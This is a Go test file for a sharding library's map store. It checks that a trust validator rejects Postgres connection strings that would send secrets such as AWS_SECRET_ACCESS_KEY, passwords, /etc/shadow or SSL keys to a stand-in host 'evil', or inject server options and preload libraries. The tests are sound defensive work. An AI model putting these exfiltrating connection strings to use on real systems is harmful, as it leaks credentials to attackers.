package mapstore_test

import (
	"errors"
	"os"
	"strings"
	"testing"

	"github.com/kiloshard/kiloshard/shards"
	"github.com/kiloshard/kiloshard/shards/mapstore"
)

// TestTrust has a writer of the map try to read the secrets of services.
func TestTrust(t *testing.T) {
	t.Parallel()
	wide := shards.Store{Kind: shards.StorePostgres, Variables: []string{"PG_*"}, Hosts: []string{"10.0.0.*", "*.db.example.com"}}
	for _, test := range []struct {
		name  string
		local shards.Store
		dsn   string
		want  string // empty if it is trusted
	}{
		{"a password", shards.Store{}, "postgres://app:${PG_A_PASSWORD}@10.0.0.1/app", ""},
		{"a password among keywords", shards.Store{}, "host=10.0.0.1 user=app password='${PG_A_PASSWORD}'", ""},
		{"a password in the query", shards.Store{}, "postgres://10.0.0.1/app?user=app&password=${PG_A_PASSWORD}&sslmode=require", ""},
		{"a secret as database", shards.Store{}, "postgres://app@evil/${AWS_SECRET_ACCESS_KEY}", "variable AWS_SECRET_ACCESS_KEY"},
		{"a secret as password", shards.Store{}, "postgres://app:${AWS_SECRET_ACCESS_KEY}@evil/app", "variable AWS_SECRET_ACCESS_KEY"},
		{"a password as user", shards.Store{}, "postgres://${PG_A_PASSWORD}@evil/app", "variable PG_A_PASSWORD"},
		{"a password as host", shards.Store{}, "postgres://app@${PG_A_PASSWORD}.evil/app", "variable PG_A_PASSWORD"},
		{"a password as port", shards.Store{}, "postgres://app@evil:${PG_A_PASSWORD}/app", "variable PG_A_PASSWORD"},
		{"a password as application", shards.Store{}, "postgres://app@evil/app?application_name=${PG_A_PASSWORD}", "variable PG_A_PASSWORD"},
		{"a password as keyword", shards.Store{}, "host=evil application_name=x${PG_A_PASSWORD}", "variable PG_A_PASSWORD"},
		{"all of it", shards.Store{}, "${PG_A_DSN}", "variable PG_A_DSN"},
		{"a password as a parameter", shards.Store{}, "host=evil pAssword='${PG_A_PASSWORD}'", "variable PG_A_PASSWORD"},
		{"a password as a parameter of the query", shards.Store{}, "postgres://app@evil/app?Password=${PG_A_PASSWORD}", "variable PG_A_PASSWORD"},
		{"more of it", shards.Store{}, "host=evil ${PG_A_PASSWORD}", "variable PG_A_PASSWORD"},
		{"a service", shards.Store{}, "postgres://evil/app?service=photos", "service in a DSN"},
		{"a service, escaped", shards.Store{}, "postgres://evil/app?%73ervice=photos", "service in a DSN"},
		{"a service among keywords", shards.Store{}, "host=evil service=photos", "service in a DSN"},
		{"a file of passwords", shards.Store{}, "postgres://app@evil/app?passfile=/etc/shadow", "passfile in a DSN"},
		{"a key", shards.Store{}, "host=evil sslkey=/root/key", "sslkey in a DSN"},
		{"an authentication method", shards.Store{}, "postgres://evil/app?require_auth=password", "require_auth in a DSN"},
		{"all of it, as the file says", wide, "${PG_A_DSN}", ""},
		{"anywhere, as the file says", wide, "postgres://${PG_USER}:${PG_PASSWORD}@10.0.0.1/${PG_DATABASE}", ""},
		{"not as the file says", wide, "postgres://${AWS_SECRET_ACCESS_KEY}@10.0.0.1/app", "variable AWS_SECRET_ACCESS_KEY"},
		{"a host as the file says", wide, "postgres://app@a.db.example.com:5432,10.0.0.7/app", ""},
		{"a second host", wide, "postgres://app@a.db.example.com:5432,evil/app", `host "evil"`},
		{"a host in the query", wide, "postgres://10.0.0.1/app?host=evil", `host "evil"`},
		{"a host among keywords", wide, "host=10.0.0.1,evil", `host "evil"`},
		{"a second host, escaped", wide, "postgres://app@evil%2Ca.db.example.com/app", `host "evil"`},
		{"a second host among keywords, escaped", wide, `host=evil\,a.db.example.com`, `host "evil"`},
		{"a host behind two @", shards.Store{}, "postgres://:@${PG_A_PASSWORD}@", "a DSN that cannot be parsed"},
		{"a service behind a vertical tab", shards.Store{}, "host=10.0.0.1\vservice=photos", "a DSN that cannot be parsed"},
		{"no host", wide, "user=app", `host ""`},
		{"an address", wide, "host=10.0.0.1 hostaddr=6.6.6.6", `"hostaddr" in a DSN`},
		{"triggers that do not fire", shards.Store{}, "postgres://10.0.0.1/app?session_replication_role=replica", `"session_replication_role" in a DSN`},
		{"commits that wait for no disk", shards.Store{}, "host=10.0.0.1 synchronous_commit=off", `"synchronous_commit" in a DSN`},
		{"a path", shards.Store{}, "host=10.0.0.1 Search_Path=evil", `"search_path" in a DSN`},
		{"options", shards.Store{}, "postgres://10.0.0.1/app?options=-csession_preload_libraries%3Devil", `"options" in a DSN`},
		{"a time limit and a pool", shards.Store{}, "postgres://10.0.0.1/app?statement_timeout=5s&pool_max_conns=9&connect_timeout=3", ""},
	} {
		c := newChange(1).Config
		c.Hosts = []shards.Host{{Name: c.Hosts[0].Name, DSN: test.dsn, Weight: 1}}
		err := mapstore.CheckTrust(test.local, c)
		if (err == nil) != (test.want == "") || err != nil && !strings.Contains(err.Error(), test.want) {
			t.Errorf("%s: got %v, want %q", test.name, err, test.want)
		}
		c.Hosts = []shards.Host{{Name: c.Hosts[0].Name, DSN: "postgres://10.0.0.1/app", Replicas: []string{test.dsn}, Weight: 1}}
		if err := mapstore.CheckTrust(test.local, c); (err == nil) != (test.want == "") {
			t.Errorf("%s, replica: got %v, want %q", test.name, err, test.want)
		}
		c.Hosts = []shards.Host{{Name: c.Hosts[0].Name, DSN: "postgres://10.0.0.1/app", Direct: test.dsn, Weight: 1}}
		if err := mapstore.CheckTrust(test.local, c); (err == nil) != (test.want == "") {
			t.Errorf("%s, direct: got %v, want %q", test.name, err, test.want)
		}
	}
}

// TestAWriterGetsNoVariables inserts a row that names a variable of its choice.
func TestAWriterGetsNoVariables(t *testing.T) {
	t.Parallel()
	dsn := newDatabase(t, server)
	s := openPostgres(t, dsn)
	swap(t, s, 0, 1)
	document := queryOne[string](t, dsn, "select document from kiloshard.maps")
	evil := strings.Replace(document, `dsn: "`, `dsn: "postgres://app@evil/${PATH}", replicas: ["`, 1)
	evil = strings.Replace(evil, `", replicas: []`, `"]`, 1)
	addRow(t, dsn, evil)
	c := shards.Config{Cluster: cluster, Store: shards.Store{Kind: shards.StorePostgres, DSN: dsn}}
	store, err := mapstore.Open(t.Context(), c, mapstore.Options{Lookup: func(name string) (string, bool) {
		return os.Getenv("PATH"), name == "PATH" || name == "PG_A_PASSWORD"
	}})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	_, err = store.Load(newContext(t))
	var field *shards.FieldError
	if !errors.As(err, &field) || !strings.Contains(err.Error(), "variable PATH in a DSN from the store") || strings.Contains(err.Error(), os.Getenv("PATH")) {
		t.Errorf("got %v", err)
	}
	// It can be seen, with the variable as it is written.
	for e, err := range store.History(newContext(t)) {
		if err != nil {
			t.Fatal(err)
		}
		for _, h := range e.Map.Hosts() {
			if strings.Contains(h.ConnString()+h.Address(), os.Getenv("PATH")) {
				t.Errorf("version %d shows the variable", e.Map.Version())
			}
		}
	}
}
